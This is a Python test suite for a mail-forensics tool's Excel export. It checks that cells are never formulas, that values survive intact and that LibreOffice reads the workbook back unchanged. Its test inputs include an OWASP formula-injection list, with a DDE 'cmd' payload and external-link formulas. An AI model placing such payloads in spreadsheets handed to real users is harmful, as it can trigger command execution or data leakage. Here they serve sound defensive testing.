"""S3 in XLSX: no cell is a formula, numbers are unchanged, nothing is lost without a word, and two other programs read it."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pyarrow as pa
import pytest

from mailforensics import Case, samples, schema
from mailforensics.show import escape, workbook
from tests.show.hostile import FORMULAS, PAYLOADS

OFFICE = shutil.which("soffice")

# OWASP, CSV injection: what a cell may begin with, and the classic ones; then what XML and spreadsheets take for more than text
OWASP = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠1", "=cmd|' /C calc'!A0",
         '=HYPERLINK("http://example.com")', '=IMPORTXML(CONCAT("http://example.com/",A2),"//a")', "=DDE(0)"]  # fmt: skip
SPELT = [
    "_x0041_",
    "a_x000D_b",
    "_x005F_",
    "]]>",
    "<c>&amp;</c>",
    "  two blanks  ",
    "TRUE",
    "12",
    "1e5",
    "2026-03-02",
]
TEXTS = [
    *OWASP,
    *SPELT,
    *(text for text in PAYLOADS if not any("\ud800" <= sign <= "\udfff" for sign in text)),
]
NUMBERS = [0, -4, 7, 10**15, -(10**15)]


class Tables:
    """A case of tables that are given as frames."""

    def __init__(self, **frames: pl.DataFrame) -> None:
        self.frames = frames

    def table(self, name: str) -> pa.Table:
        return schema.to_table(name, self.frames.get(name, schema.empty(name)))


def hostile_tables() -> Tables:
    count = len(TEXTS)
    times = [datetime(2026, 3, 2, 9, 2, 11, 500_000, tzinfo=UTC)] * count
    sizes = [NUMBERS[at % len(NUMBERS)] for at in range(count)]
    scores = [-1.5, 0.1, float("nan"), float("inf"), None] * count
    frame = pl.DataFrame(
        {
            "subject": TEXTS,
            "size": sizes,
            "time": times,
            "score": scores[:count],
            "recipients": [[text] for text in TEXTS],
        }
    )
    return Tables(scans=frame)  # fmt: skip


def opened(made: bytes, **options: Any) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(made), **options)


def columns_of(sheet: Any) -> dict[str, int]:
    return {cell.value: cell.column for cell in sheet[1]}


@pytest.fixture(scope="module")
def case() -> Case:
    return samples.load("bounced")


@pytest.fixture(scope="module")
def made(case: Case) -> bytes:
    return workbook.workbook(case)


def test_formulas_are_text_numbers_are_numbers_and_times_are_times() -> None:
    book = opened(workbook.workbook(hostile_tables()))
    sheet = book["scans"]
    at = columns_of(sheet)
    for row, text in enumerate(TEXTS, start=2):
        cell = sheet.cell(row, at["subject"])
        assert (cell.data_type, unspelt(cell.value)) == ("s", escape.excel_cell(text))
        assert cell.quotePrefix is escape.is_formula(escape.excel_cell(text))
        size = sheet.cell(row, at["size"])
        assert (size.data_type, size.value) == ("n", NUMBERS[(row - 2) % len(NUMBERS)])
        assert sheet.cell(row, at["time"]).value == datetime(2026, 3, 2, 9, 2, 11, 500_000)
        assert sheet.cell(row, at["score"]).value == [-1.5, 0.1, None, None, None][(row - 2) % 5]
        assert json.loads(unspelt(sheet.cell(row, at["recipients"]).value)) == [text]
    book.close()


def unspelt(value: str) -> str:
    """openpyxl leaves the spelling of underscores as it is."""
    return value.replace("_x005F_", "_")


def test_no_part_of_the_book_holds_a_formula_a_link_or_a_macro(made: bytes) -> None:
    for book in (made, workbook.workbook(hostile_tables())):
        with zipfile.ZipFile(io.BytesIO(book)) as archive:
            for name in archive.namelist():
                content = archive.read(name)
                assert name.endswith((".xml", ".rels"))
                assert not [
                    mark for mark in (b"<f>", b"<f ", b"<hyperlink", b"externalLink") if mark in content
                ]


def test_the_workbook_holds_each_table_with_all_its_rows(case: Case, made: bytes) -> None:
    book = opened(made, read_only=True)
    filled = [name for name in schema.TABLES if case.table(name).num_rows]
    assert book.sheetnames == ["tables", *filled]
    first = [row for row in book["tables"].iter_rows(min_row=2, values_only=True) if row[0]]
    assert [row[:4] for row in first] == [
        (name, case.table(name).num_rows, case.table(name).num_rows, 0) for name in filled
    ]
    for name in filled:
        assert book[name].max_row == case.table(name).num_rows + 1
    book.close()


def test_what_a_spreadsheet_cannot_hold_as_a_number_or_a_time_stands_as_text() -> None:
    frame = pl.DataFrame(
        {
            "event_id": [10**15 + 1, 7],
            "time": [datetime(1899, 1, 2, tzinfo=UTC), datetime(1970, 1, 1, tzinfo=UTC)],
        }
    )
    book = opened(workbook.workbook(Tables(events=frame)))
    at = columns_of(book["events"])
    ids = [book["events"].cell(row, at["event_id"]).value for row in (2, 3)]
    times = [book["events"].cell(row, at["time"]).value for row in (2, 3)]
    assert (ids, times) == (["1000000000000001", 7], ["1899-01-02T00:00:00.000000Z", datetime(1970, 1, 1)])
    book.close()


def test_rows_beyond_the_last_of_a_worksheet_are_told_in_it(
    case: Case, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workbook, "SHEET_ROWS", 6)
    book = opened(workbook.workbook(case), read_only=True)
    rows = case.table("events").num_rows
    told = {row[0]: row[1:3] for row in book["tables"].iter_rows(min_row=2, values_only=True)}
    assert told["events"] == (rows, 4)
    assert book["events"].max_row == 6
    (last,) = book["events"].iter_rows(min_row=6, values_only=True)
    assert last[0] == f"{rows - 4:,} more rows are not in this sheet: it is full."
    book.close()


def test_a_table_that_just_fills_its_sheet_is_there_whole(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "SHEET_ROWS", 6)
    book = opened(
        workbook.workbook(Tables(events=pl.DataFrame({"event_id": [1, 2, 3, 4, 5]}))), read_only=True
    )
    assert [row[0] for row in book["events"].iter_rows(values_only=True)] == ["event_id", 1, 2, 3, 4, 5]
    book.close()


@pytest.mark.parametrize("letter", ["x", "\x00", "😀"])
def test_a_text_longer_than_a_cell_is_cut_says_so_and_is_counted(letter: str) -> None:
    frame = pl.DataFrame({"text": [letter * 40_000, "short", letter * 40_000]})
    book = opened(workbook.workbook(Tables(events=frame)))
    at = columns_of(book["events"])
    value = book["events"].cell(2, at["text"]).value
    assert value.endswith("characters]")
    assert len(value.encode("utf-16-le")) // 2 <= 32_767
    (told,) = book["tables"].iter_rows(min_row=2, max_row=2, values_only=True)
    assert told[:4] == ("events", 3, 3, 2)
    book.close()


def test_an_empty_case_is_a_book_too() -> None:
    book = opened(workbook.workbook(Tables()))
    assert book.sheetnames == ["tables"]
    book.close()


# --- As LibreOffice reads it --------------------------------------------------------------------------------------------


@pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not installed: apt-get install libreoffice-calc")
@pytest.mark.parametrize("which", ["bounced", "hostile"])
def test_libreoffice_opens_it_without_a_warning_and_reads_the_same_cells(
    which: str, case: Case, tmp_path: Path
) -> None:
    tables = case if which == "bounced" else hostile_tables()
    (tmp_path / "tables.xlsx").write_bytes(book := workbook.workbook(tables))
    every_sheet = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,true,false,false,-1"  # formulas as formulas
    command = [str(OFFICE), f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless", "--convert-to", every_sheet,
               "--outdir", str(tmp_path / "csv"), str(tmp_path / "tables.xlsx")]  # fmt: skip
    run = subprocess.run(command, capture_output=True, text=True, timeout=300, check=True)
    said = [
        line for line in run.stderr.splitlines() if "javaldx" not in line
    ]  # is told with any file where Java is missing
    assert said == []
    there = opened(book, read_only=True)
    for name in there.sheetnames:
        read = (tmp_path / "csv" / f"tables-{name}.csv").read_text(encoding="utf-8")
        rows = [*csv.reader(io.StringIO(read, newline=""))]
        cells = [*there[name].iter_rows(values_only=True)]
        assert len(rows) == len(cells)
        for row, expected in zip(rows, cells, strict=True):
            assert [same(*pair) for pair in zip(row, expected, strict=False)] == [True] * len(row), (
                row,
                expected,
            )
    there.close()


def same(read: str, cell: Any) -> bool:
    """Whether a cell that LibreOffice wrote as CSV is the one of the book."""
    if cell is None:
        return read == ""
    if isinstance(cell, bool):
        return read == str(cell).upper()
    if isinstance(cell, int | float):
        return float(read) == pytest.approx(cell, rel=1e-9)
    if isinstance(cell, datetime):
        return abs((datetime.fromisoformat(read) - cell).total_seconds()) <= 0.0011
    return read == unspelt(cell)


def test_every_payload_that_a_table_can_hold_is_tried() -> None:
    assert len(TEXTS) > 90
    assert set(FORMULAS) & set(TEXTS)
